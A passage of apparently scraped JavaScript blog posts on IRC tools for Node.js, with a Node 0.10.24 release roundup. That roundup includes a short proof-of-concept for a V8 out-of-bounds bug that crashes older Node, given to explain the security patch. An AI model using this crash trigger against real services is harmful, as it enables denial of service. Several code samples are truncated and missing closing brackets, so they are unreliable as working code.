The JavaScript blog.


irc node apps

Shout: An IRC Client for the Web

Posted on .

Shout IRC

Shout (GitHub: erming / shout, License: MIT, npm: shout) by Mattias Erming is a web-based IRC client. The UI is very impressive, it feels lightweight and fast, but still familiar to die-hard IRC users like me.

I still use an IRC client on a server with tmux, and I probably always will, but there are times when I get forced into using web-based chat services. This isusually for work, and I pretty much never like them. The thing that's good about Shout is you can run it on your own server, so you could install an IRC daemon on a server somewhere then set it up to connect to it automatically.

This means your colleagues that hate console software can use a friendly web interface, while you can hang out in the shell like a civilized person. There are commercial services that offer IRC backends and friendly web frontends (Gitter and Grove are good examples), but you may like to host your own or hack Shout in some way.

Shout is built using a simple server based on Connect and Socket.IO that maps the client UI to a real IRC server. It has a Grunt build script, and treats IRC commands like plugins so it should be easy to add new ones.

The client-side code uses Handlebars for the templates, and the CSS looks easy to modify. There's a folder called themes but the example CSS file is currently empty, so I'm not sure howthe authors intend that to be used.

The underlying IRC client implementation is slate-irc, which I seem to remember TJ Holowaychuk wrote for a cool Node desktop app. Mattias Erming is now a maintainer, and he's been committing work to the slate-irc project on GitHub.

Overall Shout looks like it has a lot of potential, and I've been impressed by what I've seen so far.


irc node modules security talks slides

Node Roundup: 0.10.24, irc-message-stream, 100% Uptime

Posted on .

Node 0.10.24 Released

Node 0.10.24 was released soon after 0.10.23. It updates uv and npm, but presumably this release was due to CVE-2013-6639 and CVE-2013-6640. These are security related patches for V8:

... allows remote attackers to cause a denial of service (out-of-bounds read) via JavaScript code that sets a variable to the value of an array element with a crafted index

If you run this example in Node 0.10.22 you should see a segfault.

var size = 0x20000;var a = new Float64Array(size);
var training = new Float64Array(10);

function store(a, index) {
  var offset = 0x20000000;
  for (var i = 0; i < 1; i++) {
    a[index + offset] = 0xcc;

store(training, -0x20000000);
store(training, -0x20000000 + 1);
store(training, -0x20000000);
store(training, -0x20000000 + 1);

for (var i = -0x20000000; i < -0x20000000 + size; i++) {
  store(a, i);


irc-message (GitHub: expr / irc-message, License: BSD 2-Clause, npm: irc-message) by Fionn Kelleher is a small parser that outputs objects based on RFC1459. The author has used it to create irc-message-stream, which is a transform stream.That means you can take a socket connection to an IRC server and pipe it through your own stream handlers:

var net = require('net');
var MessageStream = require('irc-message-stream');
var messageStream = new MessageStream();

messageStream.on('line', function(line) {
  console.log('Raw line:', line);

messageStream.on('data', function(message) {
  console.log('Parsed message:', JSON.stringify(message));

var socket = net.connect(6667, 'irc.freenode.net');

I think this is a great way to handle IRC in Node -- taking advantage of the newer streams API seems a lot more idiomatic than other approaches that I've seen (and made!).

Towards 100% Uptime with Node

William sent in his slides for a talk called Towards 100% Uptime with Node. The slides cover the difficulties of handling uncaught exceptions in a cluster of Node processes, and ensuring that every request has a response, even if it's to report an error.

One of the tips he mentions is to be able to generate errors on demand for development and staging. I do this in my tests -- if critical paths are expected to throw exceptions, emit 'error' events, or return error objects to callbacks, then all of these eventualities should be hit as part of automated testing.

The Node applications I work on for my day job are hosted on Heroku, and I've found you have to be extremely careful with code that throws errors and causes the process to stop. Sometimes Heroku gets confused about the state of a process and won't gracefully restart it, so a worker just hangs for an undefined amount of time. The way I stopped this was to fix all the bugs, which sounds like an obvious thing to say, but it took lots of log file archaeology. Coincidentally, Heroku's default logging is inadequate, so you have to send logs to a syslog daemon somewhere, or a service like Loggly (which I preferred to Splunk).


nodejs irc

Node.js on IRC

Posted on .

Node.js makes writing IRC-related programs straightforward andsuper-efficient, thanks to its evented networking.
Therefore it isn’t surprising that a lot of projects have appeared

I’ve been looking around for reusable JavaScript IRC libraries, and
discovered the following projects.

IRC Daemon Demo

This IRC daemon demo presented at jsconf.eu/2009 demonstrates how to build a server. It has
simple prototypal classes for channels and users, and parses IRCcommands using a regex and a switch. It also uses node’s
TCP library.


nodelog is an IRC logger. This would be a good place to start if you’d like to build a JavaScript IRC
bot. The client code is clear andreusable. The log.js file
demonstrates how to use the irc.js library.


irccat-nodejs is based on irccat which allows you to send messages to IRC using HTTP or a TCP socket. The client codeis again
fairly simple.


egret is a command-line IRC client. The base code uses node’s TCP sockets and a hash to interpret IRC
commands into English.


nodejs.irc is an IRC bot. It’s not finished yet, butthe code is separated out and easy to follow.


aoibot is similar to nodejs.irc, but it looks likethe finished product will be less generic. Again, it’s
unfinished, so I expect the author still has a lot of ideas and work to